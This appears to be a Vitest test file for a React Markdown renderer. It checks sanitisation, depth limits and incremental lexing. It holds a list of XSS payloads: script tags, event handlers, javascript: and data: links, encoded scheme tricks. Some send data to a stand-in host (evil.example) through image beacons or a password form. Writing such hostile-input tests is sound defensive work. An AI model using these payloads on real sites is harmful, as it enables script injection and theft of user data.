// Markdown written by anybody: what it may become in the page, and what not.
import { QueryClient, QueryClientProvider } from "@tanstack/react-query";
import { cleanup, fireEvent, render, screen } from "@testing-library/react";
import fc from "fast-check";
import { afterEach, describe, expect, it, vi } from "vitest";
import { Markdown } from ".";
import { judge, nestingOf } from "./guard";
import { lex } from "./lex";
import { decodeEntities, safeHref } from "./links";

vi.mock("@/api", () => ({ useMaybeProject: () => undefined, api: {} }));
afterEach(cleanup);

const show = (text: string): HTMLElement =>
  render(
    <QueryClientProvider client={new QueryClient()}>
      <Markdown text={text} />
    </QueryClientProvider>,
  ).container;

const ALLOWED = new Set(
  "DIV P SPAN STRONG EM DEL CODE PRE BR HR UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD A INPUT BUTTON IMG svg path line rect polyline circle FIGURE FIGCAPTION AUDIO VIDEO".split(
    " ",
  ),
);

/** What must hold for the page, whatever the text says. */
function problems(container: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of container.querySelectorAll("*")) {
    if (!ALLOWED.has(element.tagName)) found.push(`element ${element.tagName}`);
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on")) found.push(`${name}=${value}`);
      if (["srcdoc", "formaction", "action", "xlink:href", "srcset", "background", "ping"].includes(name))
        found.push(`${name}=${value}`);
      if (name === "href" && !/^(https?:\/\/|mailto:)/.test(value)) found.push(`href=${value}`);
      if (name === "src" && !value.startsWith("data:image/")) found.push(`src=${value}`);
      if (name === "style" && /url|expression|import|position/i.test(value)) found.push(`style=${value}`);
    }
    if (element.tagName === "A" && !/noopener.*noreferrer.*nofollow/.test(element.getAttribute("rel") ?? ""))
      found.push("a without rel");
  }
  return found;
}

const PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
const VECTORS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://evil.example/leak?c=1'>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><script>alert(1)</script></mtext></math>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>*{background:url(//evil.example)}</style>",
  "<form action=//evil.example><input name=password><button>Go</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<a href='javascript:alert(1)'>x</a>",
  "<div style='background:url(//evil.example)'>x</div>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><script>alert(1)</script-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<x onclick=alert(1)>x</x>",
  "<custom-element onclick=alert(1)>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a]( javascript:alert(1))",
  "[a](java\tscript:alert(1))",
  "[a](java&#10;script:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](&#x6A;avascript:alert(1))",
  "[a](javascript&colon;alert(1))",
  "[a](\u0001javascript:alert(1))",
  "[a](\u200bjavascript:alert(1))",
  "[a](<javascript:alert(1)>)",
  "[a](<java\\script:alert(1)>)",
  "[a](vbscript:msgbox(1))",
  "[a](data:text/html,<script>alert(1)</script>)",
  "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[a](file:///etc/passwd)",
  "[a](blob:https://evil.example/1)",
  "[a](//evil.example)",
  "[a](/api/ui/auth/sign-out)",
  "[a](\\\\evil.example)",
  "[a](#top)",
  "[a](https:evil.example)",
  "[a](http://\u0000evil.example)",
  "[a][x]\n\n[x]: javascript:alert(1)",
  "<javascript:alert(1)>",
  '<https://evil.example/" onmouseover=alert(1)>',
  "![a](javascript:alert(1))",
  "![a](https://evil.example/pixel.png?data=secret)",
  "![a](//evil.example/pixel.png)",
  "![a](data:text/html;base64,PHNjcmlwdD4=)",
  `![a"onerror="alert(1)](data:image/png;base64,${PX})`,
  '![a](x" onerror="alert(1))',
  '![a](https://evil.example/x.png "title\\" onload=alert(1)")',
  "[![a](https://evil.example/x.png)](javascript:alert(1))",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\ncode\n```',
  "`<img src=x onerror=alert(1)>`",
  "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
  "| a |\n| --- |\n| [x](javascript:alert(1)) |",
  "- [ ] <script>alert(1)</script>",
  "> <iframe src=javascript:alert(1)>",
  "# <svg/onload=alert(1)>",
  "**<b onclick=alert(1)>x</b>**",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\<script>alert(1)\\</script>",
  "http://evil.example/<script>alert(1)</script>",
  'www.evil.example/"onclick=alert(1)',
  "[a](https://user:pass@evil.example/)",
  "[a](mailto:x@y.z?subject=<script>)",
  "$$\\href{javascript:alert(1)}{x}$$",
  "{{constructor.constructor('alert(1)')()}}",
  "<a\u000Chref=javascript:alert(1)>x",
  "<img/src/onerror=alert(1)>",
  "<<script>alert(1)//<</script>",
];

describe("hostile texts", () => {
  it("are many", () => expect(VECTORS.length).toBeGreaterThanOrEqual(60));

  it.each(VECTORS)("%j makes nothing but text, safe links and pictures in the text", (text) => {
    const container = show(text);
    expect(problems(container)).toEqual([]);
    expect(container.textContent + (container.querySelector("img")?.alt ?? "")).not.toBe("");
  });

  it("stay harmless in any combination", () => {
    const piece = fc.constantFrom(...VECTORS, "\n", "\n\n", "> ", "- ", "| ", "**", "`", "](", "<", "\\");
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        expect(problems(show(pieces.join("")))).toEqual([]);
        cleanup();
      }),
      { numRuns: 150 },
    );
  });

  it("never follow an address that the list does not allow", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        const href = safeHref(text);
        if (href !== undefined) expect(href).toMatch(/^(https?:\/\/|mailto:)/);
      }),
    );
    expect(safeHref("https://a.example/x?y=1")).toBe("https://a.example/x?y=1");
    expect(safeHref("HTTP://A.example")).toBe("http://a.example/");
    expect(safeHref("mailto:a@b.c")).toBe("mailto:a@b.c");
  });
});

describe("Markdown", () => {
  it("knows lists, tasks, tables, code and quotes", () => {
    const container = show(
      "# Title\n\nA *b* **c** ~~d~~ `e`\n\n3. x\n4. y\n\n- [x] done\n- [ ] open\n\n| a | b |\n| :- | -: |\n| 1 | 2 |\n\n> q\n\n```py\nprint(1)\n```\n\n---",
    );
    expect(container.querySelector("p[data-level='1']")?.textContent).toBe("Title");
    expect(container.querySelector("em")?.textContent).toBe("b");
    expect(container.querySelector("strong")?.textContent).toBe("c");
    expect(container.querySelector("del")?.textContent).toBe("d");
    expect(container.querySelector("ol")?.getAttribute("start")).toBe("3");
    expect(
      [...container.querySelectorAll<HTMLInputElement>("input[type=checkbox]")].map((box) => box.checked),
    ).toEqual([true, false]);
    expect([...container.querySelectorAll("td")].map((cell) => cell.textContent)).toEqual(["1", "2"]);
    expect(container.querySelector("td:last-child")?.className).toContain("text-right");
    expect(container.querySelector("blockquote")?.textContent).toBe("q");
    expect(container.querySelector("pre")?.textContent).toBe("print(1)");
    expect(container.querySelector("hr")).toBeTruthy();
    expect(screen.getByRole("button", { name: "Copy code" })).toBeTruthy();
    expect(container.querySelector("h1, h2, h3, h4, h5, h6")).toBeNull();
  });

  it("shows raw HTML as it is written", () => {
    expect(show("before <b>bold</b> after").textContent).toBe("before <b>bold</b> after");
    expect(show("<div>\nblock\n</div>").textContent).toContain("<div>\nblock\n</div>");
  });

  it("asks before it opens a picture elsewhere, and shows one in the text", () => {
    const container = show(`![far](https://img.example/a.png) ![near](data:image/png;base64,${PX})`);
    expect(screen.getByRole("link", { name: "Open far from img.example" })).toBeTruthy();
    expect(container.querySelectorAll("img")).toHaveLength(1);
  });

  it("reads references of characters", () => {
    expect(decodeEntities("a &lt; b &amp;&amp; c &#8364; &#x20AC; &bogus; &#0; &#xD800;")).toBe(
      "a < b && c € € &bogus; \ufffd \ufffd",
    );
  });

  it("shows what is too deep as text, and what is long only when asked", () => {
    const deep = show("> ".repeat(3_000) + "x");
    expect(deep.textContent).toContain("nested very deeply");
    expect(deep.querySelector("blockquote")).toBeNull();
    expect(screen.queryByRole("button", { name: "Render anyway" })).toBeNull();
    cleanup();
    const long = show(`**x** ${"word ".repeat(25_000)}`);
    expect(long.querySelector("strong")).toBeNull();
    fireEvent.click(screen.getByRole("button", { name: "Render anyway" }));
    expect(long.querySelector("strong")?.textContent).toBe("x");
  });

  it.each([
    ["quotes", "> ".repeat(200) + "x"],
    ["tight quotes", ">".repeat(3_000) + "x"],
    ["lists", Array.from({ length: 300 }, (_, index) => `${"  ".repeat(index)}- x`).join("\n")],
    ["list marks", "- ".repeat(3_000) + "x"],
    ["brackets", "[".repeat(3_000)],
    ["pictures", "![".repeat(3_000)],
    ["links", "[a](".repeat(3_000)],
    ["stars", "*".repeat(5_000) + "a"],
  ])("judges nested %s as deep", (_, text) => {
    expect(judge(text)).toEqual({ isSafe: false, why: "deep" });
    expect(show(text).textContent).toContain("Shown as plain text");
  });

  it("lets ordinary texts pass", () => {
    const code = "```js\n" + "if (a) { b[c[d]] = (e(f)); }\n".repeat(300) + "```";
    for (const text of ["", "a", "- a\n  - b\n    - c", code, "word ".repeat(10_000)])
      expect(judge(text).isSafe).toBe(true);
    expect(nestingOf("> - > 1. x")).toBeLessThan(10);
  });
});

describe("a text that grows", () => {
  const parts = [
    "# Title\n\n",
    "First para",
    "graph with **bold**\n\n",
    "- a\n",
    "- b\n\n",
    "```js\nlet x",
    " = 1\n```\n\n",
    "| a |\n| --- |\n",
    "| 1 |\n\n",
    "Last <b>one</b>",
  ];

  it("is lexed piece by piece to the same blocks as at once", () => {
    let text = "";
    let before = lex("");
    for (const part of parts) {
      text += part;
      before = lex(text, before ?? undefined);
      expect(before?.blocks.map(({ raw }) => raw)).toEqual(lex(text)?.blocks.map(({ raw }) => raw));
    }
  });

  it("keeps the blocks that did not change", () => {
    const { container, rerender } = render(<Markdown text={"one\n\ntwo\n\nthree\n\nfour"} />);
    const first = container.querySelector("p");
    rerender(<Markdown text={"one\n\ntwo\n\nthree\n\nfour and more"} />);
    expect(container.querySelector("p")).toBe(first);
    expect(container.textContent).toContain("four and more");
  });

  it("is the same for any text in any pieces", () => {
    const piece = fc.constantFrom(
      "a",
      " ",
      "\n",
      "\n\n",
      "- ",
      "> ",
      "```",
      "**",
      "| ",
      "# ",
      "1. ",
      "[a]",
      "[a]: http://x\n",
      "<p>",
      "\t",
      "\r\n",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        let text = "";
        let before = lex("");
        for (const next of pieces) {
          text += next;
          before = lex(text, before ?? undefined);
        }
        expect(before?.blocks.map(({ type, raw }) => [type, raw])).toEqual(
          lex(text)?.blocks.map(({ type, raw }) => [type, raw]),
        );
      }),
      { numRuns: 300 },
    );
  });
});
